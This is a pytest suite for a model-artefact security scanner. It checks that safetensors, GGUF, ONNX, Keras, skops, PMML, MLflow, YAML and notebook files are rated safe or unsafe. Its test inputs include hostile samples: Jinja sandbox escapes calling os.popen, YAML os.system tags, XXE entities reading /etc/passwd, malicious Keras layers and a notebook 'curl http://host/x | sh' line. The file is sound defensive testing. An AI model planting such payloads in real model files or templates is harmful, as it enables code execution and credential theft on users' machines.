"""Formats that are no pickles: real files pass, and what runs code or reaches outside does not."""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path

import h5py
import numpy as np
import pytest
import skops.io
from containers_samples import zipped
from safetensors.numpy import save as save_safetensors
from sklearn.linear_model import LogisticRegression

from bartizan.areas.artefacts.reports import FileReport
from bartizan.areas.artefacts.safety import Safety
from bartizan.areas.artefacts.scanning import scan_bytes


def verdict(data: bytes | str | object, name: str = "model.bin") -> FileReport:
    if isinstance(data, str):
        data = data.encode()
    elif not isinstance(data, bytes):
        data = json.dumps(data).encode()
    return scan_bytes(data, name)


def is_safe(data: object, name: str = "model.bin") -> bool:
    return verdict(data, name).safety is Safety.SAFE


def is_unsafe(data: object, name: str = "model.bin") -> bool:
    return verdict(data, name).safety is Safety.UNSAFE


# safetensors


def table(**entries: object) -> bytes:
    header = json.dumps(entries).encode()
    return struct.pack("<Q", len(header)) + header


def test_safetensors_of_the_real_writer_are_safe() -> None:
    data = save_safetensors({"a": np.zeros((3, 4), np.float32), "b": np.ones(5, np.int64)}, metadata={"format": "pt"})
    report = verdict(data)
    assert (report.format, report.safety) == ("safetensors", Safety.SAFE), report.reasons
    for cut in range(10, len(data), 13):
        assert not is_safe(data[:cut])


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (
            table(a={"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, b={"dtype": "F32", "shape": [2], "data_offsets": [4, 12]})
            + bytes(12),
            "over",
        ),
        (table(a={"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}) + bytes(16), "hole"),
        (table(a={"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}) + bytes(80), "belong to no tensor"),
        (table(a={"dtype": "F32", "shape": [2], "data_offsets": [0, 800]}) + bytes(8), "beyond the end"),
        (table(a={"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}) + bytes(8), "do not fit"),
        (table(a={"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [0, 8]}) + bytes(8), "overflows"),
        (table(a={"dtype": "X", "shape": [2], "data_offsets": [0, 8]}) + bytes(8), "unknown type"),
        (table(__metadata__={"a": 1}), "metadata"),
        (struct.pack("<Q", 50) + b'{"a": 1, "a": 2}', "beyond the end"),
        (struct.pack("<Q", 16) + b'{"a": 1, "a": 2}', "twice"),
        (struct.pack("<Q", 20_000) + b'{"a":' * 4_000, "nested too deep"),
    ],
)
def test_safetensors_that_its_reader_would_refuse(data: bytes, told: str) -> None:
    report = verdict(data)
    assert report.safety is Safety.NEEDS_POLICY
    assert told in " ".join(reason.text for reason in report.reasons)


# GGUF


def text(value: str) -> bytes:
    return struct.pack("<Q", len(value.encode())) + value.encode()


def gguf(template: str | None = None, tensors: bytes = b"", count: int = 0, data: bytes = b"", entries: int | None = None) -> bytes:
    body = text("general.architecture") + struct.pack("<I", 8) + text("llama")
    body += text("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 3) + text("a") + text("b") + text("c")
    pairs = 2
    if template is not None:
        body += text("tokenizer.chat_template") + struct.pack("<I", 8) + text(template)
        pairs += 1
    whole = b"GGUF" + struct.pack("<IQQ", 3, count, pairs if entries is None else entries) + body + tensors
    return whole + bytes(-len(whole) % 32) + data


def tensor(name: str, shape: tuple[int, ...], kind: int, offset: int) -> bytes:
    return text(name) + struct.pack("<I", len(shape)) + b"".join(struct.pack("<Q", n) for n in shape) + struct.pack("<IQ", kind, offset)


CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message.content | trim + '<|im_end|>'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant' }}{% endif %}"
)


def test_gguf_is_safe_where_everything_lies_in_the_file() -> None:
    good = gguf(CHATML, tensor("a", (8,), 0, 0) + tensor("b", (32,), 8, 32), 2, bytes(32 + 34))
    report = verdict(good)
    assert (report.format, report.safety) == ("GGUF", Safety.SAFE), report.reasons
    for cut in range(5, len(good), 11):
        assert not is_safe(good[:cut]), cut


def test_gguf_that_overruns_is_not() -> None:
    assert is_unsafe(gguf(entries=2**40))
    assert is_unsafe(gguf(None, tensor("a", (2**40, 2**40), 0, 0), 1, bytes(64)))
    assert not is_safe(gguf(None, tensor("a", (1000,), 0, 0), 1, bytes(64)))
    assert not is_safe(gguf(None, tensor("a", (8,), 0, 0) + tensor("b", (8,), 0, 0), 2, bytes(64)))
    assert not is_safe(gguf(None, tensor("a", (8,), 0, 7), 1, bytes(64)))


ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ '' | attr('__class__') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "{{ messages | map(attribute='__class__') }}",
    "{% include '/etc/passwd' %}",
    "{% import 'x' as y %}",
    "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}",
    "{% generation %}{{ x.__class__ }}{% endgeneration %}",
]
UNSURE = [
    "{{ x['__cla' ~ 'ss__'] }}",
    "{{ x | attr(y) }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ os('id') }}",
    "{{ x.popen('id') }}",
    "{{ x[a]() }}",
    "{{ x['%c%c' % (95, 95)] }}",
    "{% broken",
]
PLAIN = [
    CHATML,
    "{%- set ns = namespace(found=false) %}{% for m in messages[1:] %}{% if loop.index0 % 2 == 0 %}"
    "{{ raise_exception('x') }}{% endif %}{% endfor %}",
    "{{ messages[loop.index0 - 1]['content'].split('</think>')[-1].lstrip('\\n') }}",
    "{%- macro render(tool) %}{{ tool | tojson(indent=2) }}{% endmacro %}{% for t in tools.items() %}{{ render(t) }}{% endfor %}",
    "{% generation %}{{ message.content }}{% endgeneration %}",
    "{{ strftime_now('%d %b %Y') }}{% for x in range(3) %}{% continue %}{% endfor %}",
]


@pytest.mark.parametrize("template", ESCAPES)
def test_templates_that_reach_for_python_are_unsafe(template: str) -> None:
    assert is_unsafe(gguf(template))
    assert is_unsafe({"chat_template": template}, "tokenizer_config.json")
    assert is_unsafe({"chat_template": [{"name": "default", "template": template}]}, "tokenizer_config.json")
    assert is_unsafe(template, "chat_template.jinja")


@pytest.mark.parametrize("template", UNSURE)
def test_templates_that_hide_what_they_do_need_a_look(template: str) -> None:
    assert verdict(gguf(template)).safety is Safety.NEEDS_POLICY


@pytest.mark.parametrize("template", PLAIN)
def test_templates_as_models_have_them_are_safe(template: str) -> None:
    report = verdict(gguf(template))
    assert report.safety is Safety.SAFE, report.reasons


# protobuf: ONNX and TensorFlow


def varint(n: int) -> bytes:
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def message(number: int, content: bytes | str | int) -> bytes:
    if isinstance(content, int):
        return varint(number << 3) + varint(content)
    raw = content.encode() if isinstance(content, str) else content
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def onnx(nodes: bytes = b"", tensors: bytes = b"", functions: bytes = b"") -> bytes:
    graph = message(1, message(4, "Add") + message(3, "n")) + nodes + tensors + message(2, "graph")
    return message(1, 8) + message(2, "test") + message(7, graph) + message(8, message(2, 17)) + functions


def outside(location: str) -> bytes:
    return message(5, message(8, "w") + message(14, 1) + message(13, message(1, "location") + message(2, location)))


def test_onnx_keeps_to_its_folder_and_to_known_operators() -> None:
    report = verdict(onnx(tensors=outside("model.onnx_data")))
    assert (report.format, report.safety) == ("ONNX", Safety.SAFE), report.reasons
    for location in ("/etc/passwd", "../../secret", "a/../../b", "C:\\x", "\\\\host\\x", "~/x", "http://host/x", ""):
        assert is_unsafe(onnx(tensors=outside(location))), location
    custom = message(1, message(4, "Evil") + message(7, "my.domain"))
    assert verdict(onnx(nodes=custom)).safety is Safety.NEEDS_POLICY
    assert is_safe(onnx(nodes=custom, functions=message(25, message(1, "Evil") + message(10, "my.domain"))))
    assert is_safe(onnx(nodes=message(1, message(4, "Gelu") + message(7, "com.microsoft"))))
    inner = message(1, message(4, "If") + message(5, message(1, "then") + message(6, outside("/etc/passwd"))))
    assert is_unsafe(onnx(nodes=inner))
    whole = onnx(tensors=outside("model.onnx_data"))
    for cut in range(10, len(whole) - 1, 3):
        assert not is_safe(whole[:cut], "m.onnx")


def saved_model(*operators: str, library: tuple[str, ...] = ()) -> bytes:
    nodes = b"".join(message(1, message(1, f"n{i}") + message(2, op)) for i, op in enumerate(("Placeholder", "SaveV2", *operators)))
    functions = b"".join(message(1, message(1, message(1, "f")) + message(3, message(1, "n") + message(2, op))) for op in library)
    return message(1, 1) + message(2, message(1, message(4, "serve")) + message(2, nodes + message(2, functions)))


def test_saved_models_are_judged_by_their_operators() -> None:
    report = verdict(saved_model("MatMul", "ReadVariableOp"))
    assert (report.format, report.safety) == ("SavedModel", Safety.SAFE), report.reasons
    for operator in ("PyFunc", "EagerPyFunc", "ReadFile", "WriteFile", "PyFuncStateless"):
        assert is_unsafe(saved_model(operator))
        assert is_unsafe(saved_model(library=(operator,)))
        assert is_unsafe(message(1, message(1, "n") + message(2, operator)), "frozen.pb")
    assert verdict(saved_model("MatchingFiles")).safety is Safety.NEEDS_POLICY
    assert verdict(saved_model("Evil>Op")).safety is Safety.NEEDS_POLICY


def test_a_vocabulary_is_no_model() -> None:
    pieces = b"".join(message(1, message(1, word) + b"\x15\0\0\0\0" + message(3, 1)) for word in ("<s>", "a", "b"))
    assert verdict(pieces, "tokenizer.model").format == "SentencePiece vocabulary"
    assert is_safe(pieces, "tokenizer.model")


# Keras


def layer(name: str, module: str | None = "keras.layers", registered: str | None = None, **config: object) -> dict[str, object]:
    found: dict[str, object] = {"class_name": name, "config": config, "registered_name": registered}
    return found | ({"module": module} if module else {})


def keras(*layers: dict[str, object]) -> bytes:
    model = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "registered_name": None}
    return zipped([("metadata.json", b"{}"), ("config.json", json.dumps(model).encode()), ("model.weights.h5", h5())])


def h5(**attributes: str) -> bytes:
    import io

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_dataset("layers/w", data=np.zeros(3))
        for key, value in attributes.items():
            file.attrs[key] = value
    return stream.getvalue()


DENSE = layer("Dense", units=2, activation="relu", dtype={"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}})
HOSTILE_LAYERS = [
    layer("Lambda", function={"class_name": "__lambda__", "config": {"code": base64.b64encode(b"x").decode()}}),
    layer("TorchModuleWrapper", module="keras.src.utils.torch_utils"),
    layer("TFSMLayer", filepath="/tmp/x"),
    layer("Popen", module="subprocess", args="id"),
    layer("function", module="os", config="system"),
    layer("get_file", module="keras.utils", origin="http://host"),
    layer("enable_unsafe_deserialization", module="keras.config"),
    layer("TFOpLambda", module=None, function="io.write_file"),
]
STRANGE_LAYERS = [
    layer("Mine", module=None, registered="my_package>Mine"),
    layer("my_package>Mine", module=None),
    layer("function", module="builtins"),
    layer("StringLookup", vocabulary="/etc/passwd"),
]


def test_keras_files_are_judged_by_their_layers() -> None:
    report = verdict(keras(DENSE))
    assert (report.format, report.safety) == ("keras", Safety.SAFE), report.reasons
    for hostile in HOSTILE_LAYERS:
        assert is_unsafe(keras(DENSE, hostile)), hostile
    for strange in STRANGE_LAYERS:
        assert verdict(keras(DENSE, strange)).safety is Safety.NEEDS_POLICY, strange


def test_h5_files_are_judged_by_their_configuration(tmp_path: Path) -> None:
    def config(*layers: dict[str, object]) -> str:
        return json.dumps({"class_name": "Sequential", "config": {"layers": list(layers)}})

    assert is_safe(h5(model_config=config(layer("Dense", module=None))), "m.h5")
    assert is_safe(h5(), "m.weights.h5")
    assert is_unsafe(h5(model_config=config(HOSTILE_LAYERS[0])), "m.h5")
    assert is_unsafe(bytes(512) + h5(model_config=config(HOSTILE_LAYERS[0])), "m.h5")
    with h5py.File(tmp_path / "link.h5", "w") as file:
        file["x"] = h5py.ExternalLink("/etc/passwd", "/")
    assert is_unsafe((tmp_path / "link.h5").read_bytes(), "m.h5")


# skops, trees, XML


def test_skops_is_judged_by_its_types() -> None:
    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    report = verdict(skops.io.dumps(model))
    assert (report.format, report.safety) == ("skops", Safety.SAFE), report.reasons
    bad = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}
    assert is_unsafe(zipped([("schema.json", json.dumps(bad).encode())]))
    strange = {"__class__": "Mine", "__module__": "mine", "__loader__": "ObjectNode", "content": None}
    assert verdict(zipped([("schema.json", json.dumps(strange).encode())])).safety is Safety.NEEDS_POLICY


def test_trees_are_data(tmp_path: Path) -> None:
    import lightgbm
    import xgboost

    rows, labels = np.arange(80.0).reshape(40, 2), np.arange(40) % 2
    booster = xgboost.XGBClassifier(n_estimators=2).fit(rows, labels)
    for name in ("x.json", "x.ubj"):
        booster.save_model(tmp_path / name)
    lightgbm.LGBMClassifier(n_estimators=2, min_child_samples=2, verbose=-1).fit(rows, labels).booster_.save_model(tmp_path / "l.txt")
    found = {name: verdict((tmp_path / name).read_bytes(), name) for name in ("x.json", "x.ubj", "l.txt")}
    assert {name: report.format for name, report in found.items()} == {
        "x.json": "XGBoost",
        "x.ubj": "XGBoost (UBJSON)",
        "l.txt": "LightGBM",
    }
    assert all(report.safety is Safety.SAFE for report in found.values())


def test_pmml_is_data_and_entities_are_refused() -> None:
    good = '<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>'
    assert verdict(good).format == "PMML"
    assert is_safe(good)
    assert is_unsafe('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>')
    assert is_unsafe('<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://host/x.dtd"><PMML/>')
    assert not is_safe(good[:-5])
    assert not is_safe("<?xml version='1.0'?>" + "<a>" * 100_000)


# layouts of Hugging Face and MLflow, notebooks, code


def test_remote_code_of_a_model_folder_needs_a_look() -> None:
    assert is_safe({"architectures": ["BertModel"], "model_type": "bert"}, "config.json")
    assert not is_safe({"auto_map": {"AutoModel": "modeling_x.Model"}}, "config.json")
    assert not is_safe({"auto_map": {"AutoTokenizer": ["user/repo--tok.Tok", None]}}, "tokenizer_config.json")
    assert not is_safe({"custom_pipelines": {"x": {"impl": "pipe.Pipe"}}}, "config.json")
    assert not is_safe('{"auto_m\\u0061p": {"AutoModel": "x.Y"}}', "config.json")
    assert is_unsafe({"trust_remote_code": True}, "config.json")
    assert not is_safe([{"idx": 0, "type": "mine.Pooling"}], "modules.json")
    assert is_safe([{"idx": 0, "type": "sentence_transformers.models.Transformer"}], "modules.json")
    assert not is_safe({"_class_name": ["pipe", "Pipe"], "unet": ["diffusers", "UNet"]}, "model_index.json")
    assert not is_safe({"_class_name": "Pipe", "unet": ["mine", "UNet"]}, "model_index.json")
    assert not is_safe('{"auto_map": ' + "[" * 100_000, "config.json")


MLMODEL = """\
artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    python_version: 3.11.4
  sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle}
"""


def test_mlflow_descriptions_are_judged_by_what_they_import() -> None:
    report = verdict(MLMODEL, "MLmodel")
    assert (report.format, report.safety) == ("MLflow model", Safety.SAFE), report.reasons
    assert not is_safe(MLMODEL.replace("mlflow.sklearn", "mine.loader"), "MLmodel")
    assert not is_safe(MLMODEL.replace("env:", "code: code\n    env:"), "MLmodel")
    assert is_unsafe(MLMODEL.replace("model_path: model.pkl", "model_path: ../../x.pkl"), "MLmodel")
    assert not is_safe("a: [", "MLmodel")


def test_yaml_tags_that_make_objects_are_seen() -> None:
    assert is_safe("a: 1\nb: !!python/tuple [1, 2]\n", "config.yaml")
    assert is_unsafe("a: !!python/object/apply:os.system ['id']\n", "config.yaml")
    assert not is_safe("a: !!python/name:os.system\n", "config.yaml")


def test_handlers_and_notebooks_are_parsed() -> None:
    assert is_safe("import torch\n\ndef handle(data, context):\n    return data\n", "serving.py")
    report = verdict("import pickle\nmodel = pickle.load(open('x', 'rb'))\n", "serving.py")
    assert report.safety is Safety.NEEDS_POLICY
    assert report.reasons[0].offset == len("import pickle\n")
    assert not is_safe("import os\nos.system('id')\n", "modeling_x.py")
    assert is_safe("import os\n\ndef later():\n    os.system('id')\n", "modeling_x.py")
    archive = zipped([("MAR-INF/MANIFEST.json", b"{}"), ("handler.py", b"import subprocess\nsubprocess.run('id')\n")])
    assert not is_safe(archive, "model.mar")

    def notebook(source: str) -> dict[str, object]:
        return {"nbformat": 4, "cells": [{"cell_type": "code", "source": source.splitlines(keepends=True), "outputs": []}]}

    assert is_safe(notebook("%matplotlib inline\n!pip install torch\nimport torch\nprint(1)"), "a.ipynb")
    assert is_unsafe(notebook("!curl http://host/x | sh"), "a.ipynb")
    assert not is_safe(notebook("!rm -rf data"), "a.ipynb")
    assert not is_safe(notebook("import joblib\njoblib.load('x')"), "a.ipynb")


def test_programs_and_unknown_bytes_are_for_somebody_to_look_at() -> None:
    assert not is_safe(b"\x7fELF" + bytes(100), "libop.so")
    assert not is_safe(bytes(range(256)), "model.bin")
    assert is_safe(b"\x89PNG\r\n\x1a\n" + bytes(50), "a.png")
    assert is_safe(b"", "empty")


def test_polyglots_are_judged_under_every_reading() -> None:
    bad = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}
    schema = json.dumps(bad).encode()
    assert is_unsafe(zipped([("archive/data.pkl", b"\x80\x02N."), ("archive/version", b"3"), ("schema.json", schema)]))
    archive = zipped([("a.npy", b"")])
    assert is_unsafe(onnx(tensors=outside("/etc/passwd")) + message(500, archive))
    assert is_unsafe(saved_model("PyFunc") + message(500, archive))
    assert not is_safe(b"import os\nos.system('id')\n" + archive, "handler.py")
    hostile_h5 = h5(model_config=json.dumps({"class_name": "Sequential", "config": {"layers": [HOSTILE_LAYERS[0]]}}))
    assert is_unsafe(b"\x80\x02N.".ljust(512, b"\0") + hostile_h5)
